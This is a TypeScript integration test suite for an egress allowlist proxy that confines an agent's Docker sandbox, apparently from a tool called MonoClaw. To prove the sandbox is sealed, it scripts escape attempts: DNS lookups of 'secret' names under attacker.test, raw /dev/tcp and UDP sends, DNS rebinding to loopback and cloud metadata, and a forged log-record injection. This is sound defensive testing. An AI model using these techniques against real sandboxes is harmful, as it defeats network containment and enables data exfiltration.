import { randomBytes } from "node:crypto";
import { mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { DockerBackend, DockerBackendOptions } from "../docker-backend.js";
import { listManagedContainers, removeManaged } from "../container/container-reaper.js";
import { runContainerExec } from "../exec/container-exec.js";
import { networkInterfaces } from "node:os";
import { LABEL_EGRESS_FOR, egressNetworkName } from "./egress-names.js";
import { readEgressLog, type EgressRecord } from "./egress-log.js";
import {
  allowlistSandbox,
  ALLOWED_IP,
  CURL_IMAGE,
  DNS_IP,
  ENGINE_NAMESPACE,
  NODE_IMAGE,
  OTHER_IP,
  assertWorldReady,
  egressDocker,
  inNamespace,
  runText,
  worldCa,
  worldRecords,
  worldSaw,
} from "./egress-test-world.test-helpers.js";

const nonce = () => `n${randomBytes(5).toString("hex")}`;
/** MonoClaw's home for these backends: their own copy of the egress decisions lands in it. */
const monoclawHome = mkdtempSync(join(tmpdir(), "monoclaw-egress-home-"));
const prefix = `egress-enf-${process.pid}`;

const ALLOW = [
  "allowed.test",
  "*.allowed.test",
  "*.rebind.test",
  "loopback.test",
  "metadata.test",
  "private.test",
  "enginehost.test",
  "mapped.test",
  "nat64.test",
  `${ALLOWED_IP}`,
];

function egressBackend(name: string, overrides: Partial<DockerBackendOptions> = {}): DockerBackend {
  return allowlistSandbox({ name, image: CURL_IMAGE, allow: ALLOW, monoclawHome }, overrides);
}

async function removeEgressObjects(name: string): Promise<void> {
  const containers = await egressDocker.listContainers({ all: true });
  await Promise.all(
    containers
      .filter((c) => c.Names.some((n) => n.startsWith(`/${name}`)))
      .map((c) =>
        egressDocker
          .getContainer(c.Id)
          .remove({ force: true, v: true })
          .catch(() => undefined),
      ),
  );
  await egressDocker
    .getNetwork(egressNetworkName(name))
    .remove()
    .catch(() => undefined);
}

const run = runText;
const CA = "/tmp/world-ca.pem";
const BUSYBOX = "/tmp/busybox";

describe("network: allowlist enforcement (egress test engine, iptables on)", () => {
  const name = `${prefix}-main`;
  let backend: DockerBackend;

  beforeAll(async () => {
    await assertWorldReady();
    await removeEgressObjects(name);
    backend = egressBackend(name);
    await backend.writeFile(CA, worldCa());
    await backend.writeFile(BUSYBOX, readFileSync("/bin/busybox"), { mode: 0o755 });
  }, 120_000);

  afterAll(async () => {
    await backend?.dispose();
    await removeEgressObjects(name);
  });

  it("reaches an allowed name with curl over HTTPS and HTTP, and with busybox wget, through the proxy the variables name", async () => {
    const env = await run(backend, "env | grep -i _proxy= | sort");
    expect(env.stdout).toContain("HTTPS_PROXY=http://monoclaw-egress-proxy:3128");
    expect(env.stdout).toContain("https_proxy=http://monoclaw-egress-proxy:3128");
    expect(env.stdout).toContain("ALL_PROXY=http://monoclaw-egress-proxy:3128");

    const https = await run(backend, `curl -sS --cacert ${CA} https://allowed.test/hello`);
    expect(https.stderr).toBe("");
    expect(JSON.parse(https.stdout)).toMatchObject({ served: "internet", scheme: "https", address: ALLOWED_IP, url: "/hello" });

    const http = await run(backend, "curl -sS http://allowed.test/plain");
    expect(JSON.parse(http.stdout)).toMatchObject({ served: "internet", scheme: "http", host: "allowed.test", url: "/plain" });

    const wget = await run(backend, `${BUSYBOX} wget -q -O - http://allowed.test/wget`);
    expect(JSON.parse(wget.stdout)).toMatchObject({ served: "internet", url: "/wget" });
  });

  it("refuses a name that is not allowed with a 403 naming the host, the rule and the monoclaw config command, and nothing reaches it", async () => {
    const id = nonce();
    const refused = await run(backend, `curl -sS -w '\\n%{http_code}' http://denied.test/${id}`);
    expect(refused.stdout).toContain("403");
    expect(refused.stdout).toContain("refused denied.test:80: not in terminal.docker.egress.allow");
    expect(refused.stdout).toContain(`allow it with: monoclaw config set terminal.docker.egress.allow '${JSON.stringify([...ALLOW, "denied.test"])}'`);

    const tunnel = await run(backend, `curl -sS --cacert ${CA} https://denied.test/${id}`);
    expect(tunnel.exitCode).not.toBe(0);
    expect(tunnel.stderr).toMatch(/CONNECT tunnel failed, response 403/);
    expect(worldSaw(id)).toBe(false);

    // Positive control: the same request to an allowed name arrives.
    const allowed = await run(backend, `curl -sS http://allowed.test/${id}`);
    expect(allowed.exitCode).toBe(0);
    expect(worldSaw(id)).toBe(true);
  });

  it("names the hosts the proxy refused in the command's result (a CONNECT refusal's reason, which curl does not print)", async () => {
    const id = nonce();
    // The log holds the earlier tests' decisions too: only this test's count.
    const since = new Date().toISOString();
    const session = await backend.openSession();
    try {
      const result = await session.exec(`curl -sS -o /dev/null --cacert ${CA} https://denied.test/${id}; curl -sS -o /dev/null http://allowed.test/${id}`);
      expect(result.notices).toEqual([
        `egress proxy: refused denied.test:443: not in terminal.docker.egress.allow; allow it with: monoclaw config set terminal.docker.egress.allow '${JSON.stringify([...ALLOW, "denied.test"])}'`,
      ]);
      // Positive control: the allowed request in the same command arrived, and a command with no refusal has no notice.
      expect(worldSaw(id)).toBe(true);
      expect((await session.exec(`curl -sS -o /dev/null http://allowed.test/${nonce()}`)).notices).toBeUndefined();
      // MonoClaw's own copy of the decisions, outside every sandbox, each once.
      const logged = readFileSync(join(monoclawHome, "egress", `${name}.jsonl`), "utf8")
        .split("\n")
        .filter(Boolean)
        .map((line) => JSON.parse(line) as EgressRecord)
        .filter((r) => r.time >= since);
      expect(logged.filter((r) => r.decision === "refused" && r.host === "denied.test" && r.port === 443)).toHaveLength(1);
      expect(logged.filter((r) => r.decision === "allowed" && r.host === "allowed.test").length).toBeGreaterThanOrEqual(2);
    } finally {
      await session.close();
    }
  });

  it("gets nowhere when a tool ignores the proxy variables: direct TCP to the internet's address, with or without a name", async () => {
    const id = nonce();
    const direct = await run(backend, `curl -sS --noproxy '*' -m 5 http://${ALLOWED_IP}/${id}`);
    expect(direct.exitCode).not.toBe(0);
    const byName = await run(backend, `curl -sS --noproxy '*' -m 5 http://allowed.test/${id}`);
    expect(byName.exitCode).not.toBe(0);
    const bashTcp = await run(backend, `timeout 5 bash -c 'exec 3<>/dev/tcp/${OTHER_IP}/80 && printf "GET /${id} HTTP/1.0\\r\\n\\r\\n" >&3 && cat <&3'`);
    expect(bashTcp.exitCode).not.toBe(0);
    expect(worldSaw(id)).toBe(false);

    // Positive control: the proxy reaches the same address for the same path.
    const viaProxy = await run(backend, `curl -sS http://${ALLOWED_IP}/${id}`);
    expect(JSON.parse(viaProxy.stdout)).toMatchObject({ served: "internet", address: ALLOWED_IP });
    expect(worldSaw(id)).toBe(true);
  });

  it("sends no DNS query and no UDP packet anywhere: nslookup of an arbitrary name and a UDP datagram to the internet are never recorded", async () => {
    const id = nonce();
    const lookup = await run(
      backend,
      `${BUSYBOX} timeout 8 ${BUSYBOX} nslookup secret-${id}.attacker.test; ${BUSYBOX} timeout 8 ${BUSYBOX} nslookup secret2-${id}.attacker.test ${DNS_IP}`,
    );
    expect(lookup.stdout + lookup.stderr).not.toContain(ALLOWED_IP);
    const udp = await run(backend, `timeout 5 bash -c 'echo udp-${id} >/dev/udp/${ALLOWED_IP}/9999; echo dns-${id} >/dev/udp/${DNS_IP}/53'; echo sent`);
    expect(udp.stdout).toContain("sent");
    // The proxy, by contrast, resolves through the world's DNS: its lookup is recorded (positive control for dns.log).
    const viaProxy = await run(backend, `curl -sS http://${id}.allowed.test/`);
    expect(JSON.parse(viaProxy.stdout)).toMatchObject({ served: "internet" });
    expect(worldRecords("dns.log").some((r) => r.name === `${id}.allowed.test`)).toBe(true);
    // And the UDP sink records what reaches it (positive control for udp.log).
    inNamespace(ENGINE_NAMESPACE, ["bash", "-c", `echo control-${id} >/dev/udp/${ALLOWED_IP}/9999`]);
    await expect.poll(() => worldRecords("udp.log").some((r) => String(r.text).includes(`control-${id}`)), { timeout: 5000 }).toBe(true);

    expect(worldRecords("dns.log").some((r) => String(r.name).includes(`secret-${id}`) || String(r.name).includes(`secret2-${id}`))).toBe(false);
    expect(worldRecords("udp.log").some((r) => String(r.text).includes(`udp-${id}`) || String(r.text).includes(`dns-${id}`))).toBe(false);
    // Whatever resolver the engine's host has, the embedded DNS forwards to an address the network has no route to.
    expect((await egressDocker.getContainer(name).inspect()).HostConfig.Dns).toEqual(["192.0.2.1"]);
  }, 60_000);

  it("refuses names that resolve to loopback, cloud metadata, a private address, the engine's host, and their IPv4-mapped and NAT64 forms", async () => {
    const cases: Array<[string, RegExp]> = [
      ["loopback.test", /127\.0\.0\.1 is loopback/],
      ["metadata.test", /169\.254\.169\.254 is cloud metadata/],
      ["private.test", /10\.0\.0\.1 is private \(RFC 1918\)/],
      ["enginehost.test", /198\.18\.64\.1 is (a network the sandbox's engine host is on|the engine's host)/],
      ["mapped.test", /::ffff:127\.0\.0\.1 is loopback/],
      ["nat64.test", /64:ff9b::a9fe:a9fe is cloud metadata/],
    ];
    for (const [host, reason] of cases) {
      const result = await run(backend, `curl -sS -w '\\n%{http_code}' http://${host}/`);
      expect(result.stdout, host).toMatch(reason);
      expect(result.stdout, host).toContain("403");
      expect(result.stdout, host).toContain("monoclaw config set terminal.docker.egress.allow_private");
    }
    // Positive control: an allowed name with a public-looking address goes through.
    expect(JSON.parse((await run(backend, "curl -sS http://allowed.test/")).stdout)).toMatchObject({ served: "internet" });
  });

  it("sends the checked name as Host over plain HTTP: a different Host header cannot front for another site on the same address", async () => {
    const fronted = await run(backend, "curl -sS -H 'Host: denied.test' http://allowed.test/fronted");
    expect(JSON.parse(fronted.stdout)).toMatchObject({ served: "internet", host: "allowed.test", url: "/fronted" });
  });

  it("reaches a literal IP only when it is listed", async () => {
    const refused = await run(backend, `curl -sS -w '\\n%{http_code}' http://${OTHER_IP}/`);
    expect(refused.stdout).toContain(`refused ${OTHER_IP}:80: a literal IP address that terminal.docker.egress.allow does not list`);
    const listed = await run(backend, `curl -sS http://${ALLOWED_IP}/`);
    expect(JSON.parse(listed.stdout)).toMatchObject({ served: "internet", address: ALLOWED_IP });
  });

  it("dials the address it checked: a rebinding name that answers a public address, then 127.0.0.1, then 169.254.169.254 never reaches either", async () => {
    const host = `${nonce()}.rebind.test`;
    const first = await run(backend, `curl -sS http://${host}/first`);
    expect(JSON.parse(first.stdout)).toMatchObject({ served: "internet", address: ALLOWED_IP, host });
    const second = await run(backend, `curl -sS http://${host}/second`);
    expect(second.stdout).toContain(`refused ${host}: it resolves to 127.0.0.1 is loopback`);
    const third = await run(backend, `curl -sS --cacert ${CA} -w '%{http_code}' https://${host}/third`);
    expect(third.exitCode).not.toBe(0);
    // One lookup per request: the name was asked for exactly three times (A records).
    expect(worldRecords("dns.log").filter((r) => r.name === host && r.type === 1)).toHaveLength(3);
  });

  it("gives the proxy the engine host's addresses that MonoClaw knows (a local socket: this machine's interfaces) to refuse", async () => {
    let policy = "";
    const result = await runContainerExec(egressDocker, `${name}-egress-proxy`, {
      cmd: ["cat", "/run/monoclaw-egress/policy.json"],
      onOutput: (stream, chunk) => {
        if (stream === "stdout") policy += Buffer.from(chunk).toString("utf8");
      },
    });
    expect(result.exitCode).toBe(0);
    const ours = Object.values(networkInterfaces())
      .flatMap((entries) => entries ?? [])
      .filter((entry) => !entry.internal && entry.family === "IPv4");
    expect(ours.length).toBeGreaterThan(0);
    const hostAddresses = (JSON.parse(policy) as { host_addresses: string[] }).host_addresses;
    for (const entry of ours) expect(hostAddresses).toContain(entry.address);
  });

  it("cannot reach a service on the engine's host, directly or through the proxy", async () => {
    const id = nonce();
    // A listener on every address of the engine's host (its network namespace).
    const script = `require("net").createServer((s) => s.end("engine-host-${id}\\n")).listen(7777, "0.0.0.0"); setTimeout(() => process.exit(0), 30000)`;
    const { spawn } = await import("node:child_process");
    const listener = spawn("ip", ["netns", "exec", ENGINE_NAMESPACE, process.execPath, "-e", script], { stdio: "ignore" });
    try {
      // Positive control: the listener answers inside the engine's namespace.
      await expect
        .poll(() => inNamespace(ENGINE_NAMESPACE, ["bash", "-c", "exec 3<>/dev/tcp/198.18.0.1/7777 && cat <&3"]).stdout, { timeout: 10_000 })
        .toContain(`engine-host-${id}`);
      const network = await egressDocker.getNetwork(egressNetworkName(name)).inspect();
      const bridgeGateway = network.IPAM?.Config?.[0]?.Gateway;
      for (const address of ["198.18.0.1", "198.18.64.1", ...(bridgeGateway ? [bridgeGateway] : [])]) {
        const direct = await run(backend, `timeout 5 bash -c 'exec 3<>/dev/tcp/${address}/7777 && cat <&3'`);
        expect(direct.stdout, address).not.toContain(id);
        expect(direct.exitCode, address).not.toBe(0);
      }
      const viaProxy = await run(backend, "curl -sS -w '\\n%{http_code}' http://enginehost.test:7777/");
      expect(viaProxy.stdout).not.toContain(id);
    } finally {
      listener.kill();
    }
  }, 60_000);
  it("records each decision in the proxy's log (allowed with bytes each way, refused with the rule), and a request cannot forge a record", async () => {
    const id = nonce();
    await run(backend, `curl -sS http://allowed.test/${id}`);
    await run(backend, `curl -sS http://denied.test/${id}`);
    // A CONNECT target that carries a fake record: it must stay inside one JSON string.
    await backend.writeFile("/tmp/forged-request", `CONNECT x{"decision":"allowed","host":"forged-${id}"}:443 HTTP/1.1\r\nHost: x\r\n\r\n`);
    const sent = await run(backend, "timeout 5 bash -c 'exec 3<>/dev/tcp/monoclaw-egress-proxy/3128; cat /tmp/forged-request >&3; cat <&3'");
    // Node's HTTP parser already refuses such a target (400); either way nothing was tunnelled.
    expect(sent.stdout).toMatch(/^HTTP\/1\.1 40[03] /);
    const records: EgressRecord[] = [];
    expect(await readEgressLog(egressDocker, name, { onRecord: (r) => records.push(r) })).toBe(true);
    const allowed = records.find(
      (r) => r.decision === "allowed" && r.host === "allowed.test" && r.method === "GET" && r.sandbox === name && (r.bytes_down ?? 0) > 0,
    );
    expect(allowed).toMatchObject({ port: 80, address: ALLOWED_IP, rule: "allow allowed.test" });
    expect(records.some((r) => r.decision === "refused" && r.host === "denied.test" && r.rule === "not allowed")).toBe(true);
    expect(records.some((r) => r.host === `forged-${id}`)).toBe(false);
    // A sandbox without allowlist has no egress log.
    expect(await readEgressLog(egressDocker, `${name}-none`, { onRecord: () => undefined })).toBe(false);
  });
});

describe("network: allowlist lifecycle", () => {
  const name = `${prefix}-life`;

  beforeAll(async () => {
    await assertWorldReady();
    await removeEgressObjects(name);
  });
  afterAll(async () => {
    await removeEgressObjects(name);
  });

  it("applies a policy change to the running sandbox without recreating it", async () => {
    const before = egressBackend(name, { keep_warm: true });
    const refused = await run(before, "curl -sS http://denied.test/");
    expect(refused.stdout).toContain("refused denied.test:80");
    const sandboxId = await before.ensureContainer();
    await before.dispose();

    const after = egressBackend(name, { keep_warm: true, egress: { allow: [...ALLOW, "denied.test"], preset: "none", proxy_image: NODE_IMAGE } });
    try {
      const allowed = await run(after, "curl -sS http://denied.test/");
      expect(JSON.parse(allowed.stdout)).toMatchObject({ served: "internet", host: "denied.test" });
      expect(await after.ensureContainer()).toBe(sandboxId);
    } finally {
      await after.dispose();
    }
  }, 120_000);

  it("lists the proxy with its sandbox, not as one, and removes its proxy and network with the sandbox", async () => {
    const backend = egressBackend(name, { keep_warm: true });
    await run(backend, "true");
    await backend.dispose();
    const listed = (await listManagedContainers(egressDocker)).filter((c) => c.name.startsWith(name));
    expect(listed.map((c) => c.name)).toEqual([name]);
    // Positive control: the proxy and the network exist before the removal.
    expect((await egressDocker.getContainer(`${name}-egress-proxy`).inspect()).State.Running).toBe(true);
    await egressDocker.getNetwork(egressNetworkName(name)).inspect();
    expect(await removeManaged(egressDocker, listed[0]!.id)).toBe(true);
    await expect(egressDocker.getContainer(`${name}-egress-proxy`).inspect()).rejects.toMatchObject({ statusCode: 404 });
    await expect(egressDocker.getNetwork(egressNetworkName(name)).inspect()).rejects.toMatchObject({ statusCode: 404 });
  }, 120_000);

  it("doctor says the proxy runs, and warns while it is stopped", async () => {
    const backend = egressBackend(name, { keep_warm: true });
    try {
      await run(backend, "true");
      const running = await backend.healthChecks!();
      expect(running.find((c) => c.id === "docker.egress.proxy")).toMatchObject({
        level: "ok",
        message: expect.stringContaining(`egress proxy ${name}-egress-proxy running`),
      });
      expect(running.find((c) => c.id === "docker.egress")?.message).toContain("the sandbox reaches only allowed.test");
      await egressDocker.getContainer(`${name}-egress-proxy`).stop({ t: 1 });
      const stopped = await backend.healthChecks!();
      expect(stopped.find((c) => c.id === "docker.egress.proxy")).toMatchObject({
        level: "warn",
        message: expect.stringContaining("the sandbox has no network until the next command restarts it"),
      });
    } finally {
      await backend.dispose();
    }
  }, 120_000);

  it("has no network while the proxy is down, and the next command brings the proxy back", async () => {
    const backend = egressBackend(name, { keep_warm: true });
    try {
      const session = await backend.openSession();
      expect(JSON.parse((await run(session, "curl -sS http://allowed.test/")).stdout)).toMatchObject({ served: "internet" });
      const proxies = await egressDocker.listContainers({ filters: { label: [`${LABEL_EGRESS_FOR}=${name}`] } });
      expect(proxies).toHaveLength(1);
      await egressDocker.getContainer(proxies[0]!.Id).kill();
      // Fail closed: with the proxy down, a command MonoClaw does not start (a raw exec) has no way out.
      let down = "";
      const raw = await runContainerExec(egressDocker, name, {
        cmd: ["curl", "-sS", "-m", "5", "http://allowed.test/"],
        onOutput: (_stream, chunk) => (down += Buffer.from(chunk).toString("utf8")),
      });
      expect(raw.exitCode).not.toBe(0);
      expect(down).not.toContain("served");
      // The next command (a session's too) checks the proxy first and restarts it.
      const back = await run(session, "curl -sS http://allowed.test/");
      expect(JSON.parse(back.stdout)).toMatchObject({ served: "internet" });
      await session.close();
      const again = await run(backend, "curl -sS http://allowed.test/");
      expect(JSON.parse(again.stdout)).toMatchObject({ served: "internet" });
    } finally {
      await backend.dispose();
    }
  }, 120_000);
});

describe("network: allowlist with Node", () => {
  const name = `${prefix}-node`;
  let backend: DockerBackend;
  beforeAll(async () => {
    await assertWorldReady();
    await removeEgressObjects(name);
    backend = egressBackend(name, { image: NODE_IMAGE });
  });
  afterAll(async () => {
    await backend?.dispose();
    await removeEgressObjects(name);
  });

  it("Node 20's fetch, which ignores the proxy variables, gets nowhere; Node's http through the proxy arrives", async () => {
    const id = nonce();
    const fetchResult = await run(
      backend,
      `node -e "fetch('http://allowed.test/${id}').then(r => r.text()).then(console.log, e => { console.log('failed', e.cause?.code ?? e.message); process.exit(3) })"`,
    );
    expect(fetchResult.exitCode).toBe(3);
    expect(worldSaw(id)).toBe(false);
    const viaProxy = await run(
      backend,
      `node -e "require('http').get({ host: 'monoclaw-egress-proxy', port: 3128, path: 'http://allowed.test/${id}', headers: { host: 'allowed.test' } }, r => r.pipe(process.stdout))"`,
    );
    expect(JSON.parse(viaProxy.stdout)).toMatchObject({ served: "internet", url: `/${id}` });
  }, 60_000);
});
